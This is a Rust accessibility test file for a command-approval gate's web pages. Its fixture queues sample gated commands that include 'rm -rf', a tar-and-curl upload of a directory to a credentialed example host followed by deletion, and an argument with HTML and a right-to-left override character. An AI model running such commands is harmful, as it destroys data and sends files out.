//! Every page as the Web Content Accessibility Guidelines want it: measured by axe-core in a real browser, light and dark, on
//! a phone and on a desk; and from the keyboard alone. With `GATE_PAGES=DIR` a picture of each stays there.

use super::browser::Browser;
use super::pages::{Desk, enter, page};
use super::records::SEGMENT;
use super::*;

const SIZES: [(&str, u32, u32); 2] = [("phone", 390, 844), ("desk", 1280, 800)];
const SCHEMES: [&str; 2] = ["light", "dark"];

impl Desk {
    /// Holds the page that is open to the guidelines, in each size and scheme.
    fn measured(&mut self, name: &str) {
        for (size, width, height) in SIZES {
            self.browser.run(&format!("await page.setViewportSize({{ width: {width}, height: {height} }})"));
            let wide = self.browser.run("return await page.evaluate(() => document.documentElement.scrollWidth)");
            assert!(wide.as_u64().unwrap() <= u64::from(width), "{name} is {wide} wide on a {size}");
            for scheme in SCHEMES {
                self.browser
                    .run(&format!("await page.emulateMedia({{ colorScheme: '{scheme}', reducedMotion: 'reduce' }})"));
                if let Some(folder) = std::env::var_os("GATE_PAGES") {
                    let file = format!("{}/{name}-{size}-{scheme}.png", folder.display());
                    self.browser.run(&format!("await page.screenshot({{ path: '{file}', fullPage: true }})"));
                }
                let told = self.browser.run("return await axe()");
                assert_eq!(told["violations"], serde_json::json!([]), "{name}, {size}, {scheme}");
                assert!(told["passes"].as_u64().unwrap() > 5, "{name}: nothing was measured: {told}");
            }
        }
    }
}

/// What waits, what is over, and a log that holds beside one that does not.
fn furnished() -> (Desk, Vec<Running>, String) {
    let mut desk = Desk::new();
    desk.enter();
    for decision in ["approve", "deny"] {
        let (gate, _) = desk.asked();
        desk.answer(decision);
        gate.wait();
    }
    desk.scene.host.runs(&["echo", "allowed"]);
    let scene = &desk.scene;
    assert_eq!(scene.host.ship().0, Status::Exited(0));
    let other = User::new(&scene.server, &scene.server.token("host", "web-03.eu.acme.com"), &scene.alice, "");
    other.runs(&["echo", "one"]);
    let old = other.sandbox.read(SEGMENT);
    other.runs(&["echo", "two"]);
    assert_eq!(other.ship().0, Status::Exited(0));
    other.sandbox.write(SEGMENT, &old);
    other.runs(&["echo", "never mind"]);
    assert_eq!(other.ship().0, Status::Exited(65));
    let mut running = Vec::new();
    let mut last = String::new();
    for words in [
        vec!["rm", "-rf", "victim"],
        vec![
            "sh",
            "-c",
            "tar -cz . | curl -T - https://user:secret@backup.example.com/dump.tar.gz && rm -rf victim /srv/old",
        ],
        vec!["rm", "-rf", "<b>victim</b>\u{202e}"],
    ] {
        let gate = scene.host.sandbox.gate(["--reason", "make room before the release", "--"]).args(words).start();
        gate.wait_for_stderr("waiting until");
        last = gate.stderr().split("(request ").nth(1).unwrap().split(',').next().unwrap().to_owned();
        scene.arrived(&last);
        running.push(gate);
    }
    let revoked = scene.server.token("auditor", "bob@acme.com");
    let id = revoked.split('_').nth(2).unwrap();
    assert_eq!(scene.server.call(&["revoke", id]).run().status, Status::Exited(0));
    (desk, running, last)
}

/// Else the other tests could not fail.
#[test]
fn what_is_wrong_with_a_page_is_measured() {
    let server = Server::new(On::Sqlite);
    let mut browser = Browser::start();
    browser.run(&format!("await page.goto('{}'); await page.click('summary')", page(&server)));
    assert_eq!(browser.run("return (await axe()).violations"), serde_json::json!([]));
    browser.run(
        "await page.evaluate(() => {
             document.querySelector('h1').style.color = '#aaa';
             document.querySelector('label').remove();
         })",
    );
    let found = browser.run("return (await axe()).violations.map((rule) => rule[0])");
    assert_eq!(found, serde_json::json!(["color-contrast", "label"]));
}

#[test]
fn approvers_pages_are_accessible_light_and_dark() {
    let (mut desk, _running, id) = furnished();
    desk.browser.run("await context.clearCookies()");
    desk.open("/");
    desk.measured("enter");
    desk.browser.run("await page.click('summary')");
    desk.measured("enter-token");
    desk.enter();
    desk.measured("queue");
    desk.open(&format!("/requests/{id}"));
    desk.measured("request");
    desk.browser.run(
        "await page.fill('#reason', 'seen'); await page.click('button[value=approve]');
         await page.waitForSelector('#signing:not([hidden])')",
    );
    desk.measured("signing");
    desk.browser.run("await page.click('#sign'); await page.waitForSelector('.answers li')");
    desk.measured("answered");
    desk.open("/people");
    desk.measured("own");
    desk.open("/settings");
    desk.measured("refused");
    let ran = desk.scene.server.call(&["enrol", "dora", "--page", &desk.page]).run();
    let link = ran.stdout.trim().to_owned();
    desk.browser
        .run(&format!("await page.goto('{link}'); await page.waitForSelector('#make-passkey:not([disabled])')"));
    desk.measured("enrol");
    desk.browser.run("await page.click('#make-passkey'); await page.waitForSelector('#made:not([hidden])')");
    desk.measured("enrolled");
    assert_eq!(desk.faults(), serde_json::json!([]));
}

#[test]
fn auditors_pages_are_accessible_light_and_dark() {
    let (mut desk, _running, _) = furnished();
    let eve = desk.scene.server.token("auditor", "eve");
    enter(&mut desk.browser, &desk.page, &eve);
    for (path, name) in [
        ("/log", "log"),
        ("/log?text=nowhere", "log-none"),
        ("/log?kind=request", "log-requests"),
        ("/statistics", "statistics"),
        ("/people", "people"),
        ("/settings", "settings"),
    ] {
        desk.open(path);
        desk.measured(name);
    }
    desk.open("/log?kind=run&outcome=approved");
    desk.browser.run("await page.click('.records a'); await page.waitForSelector('pre')");
    desk.measured("record");
    desk.open("/statistics?days=90");
    desk.browser.run("await page.click('summary')");
    desk.measured("statistics-table");
    assert_eq!(desk.faults(), serde_json::json!([]));
}

#[test]
fn the_keyboard_is_enough() {
    let (mut desk, _running, _) = furnished();
    let eve = desk.scene.server.token("auditor", "eve");
    enter(&mut desk.browser, &desk.page, &eve);
    desk.open("/log");
    let focus = "await page.keyboard.press('Tab');
        return await page.evaluate(() => {
            const at = document.activeElement, box = at.getBoundingClientRect(), style = getComputedStyle(at);
            return [at.innerText.trim() || at.id, box.left >= 0 && box.width > 0, style.outlineStyle !== 'none'];
        })";
    let tabbed = |desk: &mut Desk, times: usize| -> Vec<String> {
        let mut reached = Vec::new();
        for _ in 0..times {
            let told = desk.browser.run(focus);
            assert_eq!((&told[1], &told[2]), (&true.into(), &true.into()), "what has the focus is seen: {told}");
            reached.push(told[0].as_str().unwrap().to_owned());
        }
        reached
    };
    let reached = tabbed(&mut desk, 13);
    let wanted = ["Skip to the content", "gate", "Requests", "Log", "Statistics", "People", "Settings", "Sign out"];
    assert_eq!(reached[..8], wanted);
    assert_eq!(reached[8..], ["Log and key", "Log and key", "text", "Find", "Narrow it down"]);
    desk.browser.run("await page.keyboard.press('Enter')");
    let reached = tabbed(&mut desk, 15);
    for field in ["principal", "rule", "outcome", "since", "until", "Find"] {
        assert!(reached.iter().any(|at| at == field), "{field}: {reached:?}");
    }
    // From the first key on: to the records, and into one of them.
    desk.open("/log");
    desk.browser.run("await page.keyboard.press('Tab'); await page.keyboard.press('Enter')");
    let inside = "return await page.evaluate(() => document.querySelector('main').contains(document.activeElement))";
    desk.browser.run("await page.keyboard.press('Tab')");
    assert_eq!(desk.browser.run(inside), true, "the skip link skips");
    desk.browser.run(
        "await page.focus('.records a'); await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')])",
    );
    assert!(desk.browser.text("return page.url()").contains("/log/"));
}
